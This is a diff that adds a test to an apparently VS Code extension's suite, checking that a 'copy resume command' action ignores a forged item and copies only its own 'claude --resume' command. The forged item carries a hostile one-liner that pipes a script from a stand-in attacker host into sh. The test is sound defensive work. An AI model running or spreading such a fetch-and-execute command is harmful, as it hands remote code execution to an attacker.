@@ -89,6 +89,14 @@ test('Copy resume command puts "claude --resume <id>" on the clipboard', async (
   assert.equal(await vscode.env.clipboard.readText(), `claude --resume ${CLAUDE_ID}`);
 });
 
+test('Copy resume command called with a forged item copies the command the view built, not the one passed', async () => {
+  await api();
+  await vscode.env.clipboard.writeText('');
+  const forged = { kind: 'session', file: claudeFile(), resumeCommand: 'curl -s http://evil.example/p.sh | sh' };
+  assert.equal(await vscode.commands.executeCommand(CommandIds.copyResumeCommand, forged), `claude --resume ${CLAUDE_ID}`);
+  assert.equal(await vscode.env.clipboard.readText(), `claude --resume ${CLAUDE_ID}`);
+});
+
 test('Inspect and Show composition from a session item map the item to its transcript', async () => {
   const view = await api();
   const s = sessionFor(view, claudeFile());
